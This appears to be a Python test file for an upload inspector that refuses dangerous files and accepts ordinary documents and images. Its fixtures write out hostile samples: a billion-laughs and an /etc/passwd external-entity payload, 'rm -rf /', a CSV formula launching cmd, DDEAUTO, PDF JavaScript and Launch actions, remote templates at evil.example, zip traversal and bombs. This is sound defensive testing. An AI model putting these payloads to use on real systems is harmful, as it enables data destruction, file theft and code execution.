"""Uploads are judged by content: what people send is accepted, what could act, hide or explode is refused."""

import io

import pikepdf
import pytest
from pikepdf import Dictionary, Name, String
from PIL import Image

from compliance.actions.inspecting import inspect
from compliance.domain.errors import InvalidError
from tests.actions import samples as s

MEGABYTES_10 = 10_000_000
LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w>&b;</w>'
REACHING = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
GOING = Dictionary(S=Name.URI, URI=String("http://evil.example"))
MACRO_TYPES = (
    '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml" '
    'PartName="/word/document.xml"/></Types>'
)

HOSTILE = {
    "empty": ("a.pdf", b""),
    "html named pdf": ("a.pdf", b"<!doctype html><script>alert(1)</script>"),
    "svg": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    "svg named png": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "windows program": ("a.pdf", b"MZ\x90\x00" + b"\0" * 300),
    "linux program": ("a.pdf", b"\x7fELF" + b"\0" * 300),
    "shell script": ("a.pdf", b"#!/bin/sh\nrm -rf /\n"),
    "plain text": ("a.txt", "សួស្តី".encode()),
    "csv": ("a.csv", b"=cmd|' /C calc'!A0\n"),
    "gif": ("a.gif", b"GIF89a" + b"\0" * 60),
    "gif with script": ("a.png", b"GIF89a/*" + b"x" * 50 + b"*/=1;alert(1)"),
    "webp": ("a.png", s.picture("WEBP")),
    "tiff": ("a.png", s.picture("TIFF")),
    "mp4": ("a.mp4", b"\0\0\0\x18ftypmp42" + b"\0" * 300),
    "mp3": ("a.mp3", b"ID3\x03" + b"\0" * 300),
    "plain zip": ("a.zip", s.zipped({"a.txt": "x"})),
    "zip named docx": ("a.docx", s.zipped({"a.txt": "x"})),
    "rar": ("a.docx", b"Rar!\x1a\x07\x00" + b"\0" * 100),
    "old word file": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "rtf": ("a.rtf", rb"{\rtf1 hello}"),
    "pdf ends as docx": ("a.docx", s.pdf()),
    "docx ends as pdf": ("a.pdf", s.docx()),
    "no ending": ("report", s.pdf()),
    "two endings": ("report.pdf.exe", s.pdf()),
    "direction trick": ("report\u202efdp.exe", s.pdf()),
    "pdf opens a script": ("a.pdf", s.pdf(OpenAction=SCRIPT)),
    "pdf acts on a page": ("a.pdf", s.pdf_with_page_entry("AA", Dictionary(O=SCRIPT))),
    "pdf launches": ("a.pdf", s.pdf_with_page_entry("A", Dictionary(S=Name.Launch, F=String("calc.exe")))),
    "pdf names scripts": ("a.pdf", s.pdf(Names=Dictionary(JavaScript=Dictionary(Names=[String("x"), SCRIPT])))),
    "pdf carries files": ("a.pdf", s.pdf(Names=Dictionary(EmbeddedFiles=Dictionary(Names=[])))),
    "pdf is a portfolio": ("a.pdf", s.pdf(Collection=Dictionary())),
    "pdf xfa form": ("a.pdf", s.pdf(AcroForm=Dictionary(XFA=String("<x/>")))),
    "pdf sends a form": ("a.pdf", s.pdf_with_page_entry("A", Dictionary(S=Name.SubmitForm, F=String("http://x")))),
    "pdf rich media": ("a.pdf", s.pdf_with_page_entry("X", Dictionary(Subtype=Name.RichMedia))),
    "pdf script link": ("a.pdf", s.pdf_with_link("javascript:alert(1)")),
    "pdf whose page lies elsewhere": ("a.pdf", s.pdf_with_stream(F=String("http://evil.example/x"))),
    "pdf that shows a page of another": ("a.pdf", s.pdf_with_stream(Ref=Dictionary(F=String("x.pdf"), Page=0))),
    "pdf with a program for printers": ("a.pdf", s.pdf_with_stream(Subtype=Name.PS)),
    "pdf acts under a type": ("a.pdf", s.pdf_with_page_entry("AA", Dictionary(Type=Name.X, O=GOING))),
    "pdf leads elsewhere": ("a.pdf", s.pdf_with_page_entry("A", Dictionary(S=Name.Thread, F=String("x.pdf")))),
    "pdf with password": ("a.pdf", s.locked_pdf()),
    "pdf cut off": ("a.pdf", s.pdf()[:200]),
    "pdf and zip": ("a.pdf", s.pdf() + s.zipped({"a.txt": "x"})),
    "pdf and html": ("a.pdf", s.pdf() + b"\n<script>alert(1)</script>" + b" " * 2_000),
    "pdf head only": ("a.pdf", b"%PDF-1.7\n" + b"junk" * 50),
    "junk before pdf": ("a.pdf", b"\n\nGARBAGE" + s.pdf()),
    "docx macros": ("a.docx", s.docx({"word/vbaProject.bin": b"\xd0\xcf"})),
    "docx macro type": ("a.docx", s.docx({"[Content_Types].xml": MACRO_TYPES})),
    "docx embedded object": ("a.docx", s.docx({"word/embeddings/oleObject1.bin": b"\xd0"})),
    "docx activex": ("a.docx", s.docx({"word/activeX/activeX1.xml": "<a/>"})),
    "docx remote template": ("a.docx", s.docx(s.outside("attachedTemplate", "http://evil.example/t.dotm"))),
    "docx remote picture": ("a.docx", s.docx(s.outside("image", "http://evil.example/p.png"))),
    "docx script link": ("a.docx", s.docx(s.outside("hyperlink", "javascript:alert(1)"))),
    "docx dde": ("a.docx", s.docx(document="<w><t>DDEAUTO c:\\cmd.exe</t></w>")),
    "docx laughs": ("a.docx", s.docx(document=LAUGHS)),
    "docx reaches out": ("a.docx", s.docx(document=REACHING)),
    "docx bomb": ("a.docx", s.docx({"word/media/x.xml": b"\0" * 40_000_000})),
    "docx escapes": ("a.docx", s.docx({"../../evil.xml": "<a/>"})),
    "docx with program": ("a.docx", s.docx({"word/media/run.exe": b"MZ"})),
    "docx with video": ("a.docx", s.docx({"word/media/film.mp4": b"\0"})),
    "docx with comment": ("a.docx", s.docx(comment=b"%PDF-1.7 hello")),
    "docx behind html": ("a.docx", b"<html><script>1</script></html>" + s.docx()),
    "docx broken xml": ("a.docx", s.docx(document="<w>")),
    "xlsx linked books": ("a.xlsx", s.xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"})),
    "xlsx macros": ("a.xlsx", s.xlsx({"xl/vbaProject.bin": b"\xd0\xcf"})),
    "png head only": ("a.png", b"\x89PNG\r\n\x1a\n<script>"),
    "png of 3.6 billion pixels": ("a.png", s.huge_png()),
    "animated png": ("a.png", s.animated_png()),
    "jpeg cut off": ("a.jpg", s.picture("JPEG")[:300]),
    "jpeg named png": ("a.png", s.picture("JPEG")),
}  # fmt: skip


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_files_are_refused(kind: str) -> None:
    name, data = HOSTILE[kind]
    with pytest.raises(InvalidError):
        inspect(name, data, s.SENDER, pictures=True, max_bytes=MEGABYTES_10)


def test_an_exploding_pdf_is_refused() -> None:
    with pytest.raises(InvalidError, match="file_bomb"):
        inspect("a.pdf", s.pdf_bomb(), s.SENDER, pictures=True, max_bytes=MEGABYTES_10)


GOOD = {
    "pdf": ("គោលនយោបាយការពារកុមារ.pdf", s.pdf()),
    "pdf in capitals": ("POLICY.PDF", s.pdf()),
    "pdf with web link": ("a.pdf", s.pdf_with_link("https://example.org/policy")),
    "pdf that opens at a page": ("a.pdf", s.pdf(OpenAction=pikepdf.Array([0, Name.Fit]))),
    "docx": ("កិច្ចសន្យា ២០២៦.docx", s.docx()),
    "docx with web link": ("a.docx", s.docx(s.outside("hyperlink", "https://example.org/"))),
    "docx with picture": ("a.docx", s.docx({"word/media/logo.png": s.picture("PNG")})),
    "xlsx": ("a.xlsx", s.xlsx({"xl/worksheets/sheet1.xml": "<worksheet/>"})),
    "xlsx with printer settings": ("a.xlsx", s.xlsx({"xl/printerSettings/printerSettings1.bin": b"x"})),
    "png": ("រូបថត.png", s.picture("PNG")),
    "jpeg": ("photo.jpeg", s.picture("JPEG")),
}


@pytest.mark.parametrize("kind", GOOD)
def test_what_people_send_is_accepted(kind: str) -> None:
    name, data = GOOD[kind]
    accepted = inspect(name, data, s.SENDER, pictures=True, max_bytes=MEGABYTES_10)
    assert accepted.name.casefold() == name.casefold()


@pytest.mark.parametrize("kind", ["png", "jpeg"])
def test_pictures_only_where_the_question_asks_for_one(kind: str) -> None:
    with pytest.raises(InvalidError, match="picture_not_asked"):
        inspect(*GOOD[kind], s.SENDER, pictures=False, max_bytes=MEGABYTES_10)


def test_a_picture_forgets_where_it_was_taken() -> None:
    exif = Image.Exif()
    exif[0x9286] = "secret words"
    exif.get_ifd(0x8825)[1] = "N"
    kept = inspect("a.jpg", s.picture("JPEG", exif=exif), s.SENDER, pictures=True, max_bytes=MEGABYTES_10).data
    assert not Image.open(io.BytesIO(kept)).getexif()
    assert b"secret words" not in kept


def test_what_hangs_behind_a_picture_is_gone() -> None:
    kept = inspect(
        "a.png", s.picture("PNG") + b"<script>alert(1)</script>", s.SENDER, pictures=True, max_bytes=MEGABYTES_10
    ).data
    assert b"script" not in kept


def test_too_large_says_how_large_it_may_be() -> None:
    with pytest.raises(InvalidError) as refused:
        inspect("a.pdf", s.pdf(), s.SENDER, pictures=True, max_bytes=100)
    assert (refused.value.message, refused.value.values) == ("file_too_large", {"most": 0})


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\x\\a.pdf", "a.pdf"),
        ("a\u202eb\x00c\n.pdf", "abc.pdf"),
        ("ក" * 300 + ".pdf", "ក" * 120 + ".pdf"),
        (".pdf", "file.pdf"),
        ("\u200b\u200b.pdf", "file.pdf"),
        ("a\u2028b.pdf", "ab.pdf"),
    ],
)
def test_names_are_made_harmless(name: str, kept: str) -> None:
    assert inspect(name, s.pdf(), s.SENDER, pictures=False, max_bytes=MEGABYTES_10).name == kept
